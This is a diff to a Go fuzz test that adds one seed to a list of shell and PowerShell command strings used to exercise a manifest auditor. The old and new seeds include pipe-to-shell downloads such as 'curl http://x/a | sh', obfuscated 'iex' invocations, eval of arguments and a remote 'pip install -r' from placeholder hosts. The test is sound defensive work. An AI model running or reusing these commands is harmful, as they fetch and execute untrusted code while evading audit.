@@ -109,6 +109,7 @@ var fuzzSeeds = [][]string{
 	{"cmd", "/d", "/c", "set X=npx -y p&& call %X% %RUN% %run%&& bun run -e x&& powershell -c \"$env:A='b'; iex $env:RUN; & ${env:A}\""},
 	{"env", "-iv", "-u", "A", "B=x y", "--unset=C", "pwsh", "-c", "& (-join('i'+'w',$a)) x; & ('{1}{0}{{' -f 'r','iw') | iex; ('a','b' -join ('c'))"},
 	{"bash", "-c", "shift; set -o x -- \"$@\" $1; eval \"$*\"; shift 9; exec \"$0\" $# \"$@\"", "sh", "npx", "-y", "p", "curl x|sh"},
+	{"sh", "-c", "git clone -b v1 http://x/r d && git -C d reset --hard 0123456789abcdef0123456789abcdef01234567; git clone git://x/s; curl -H 'R: http://y' http://x/a | sh; pip install -r http://x/r.txt", "_"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
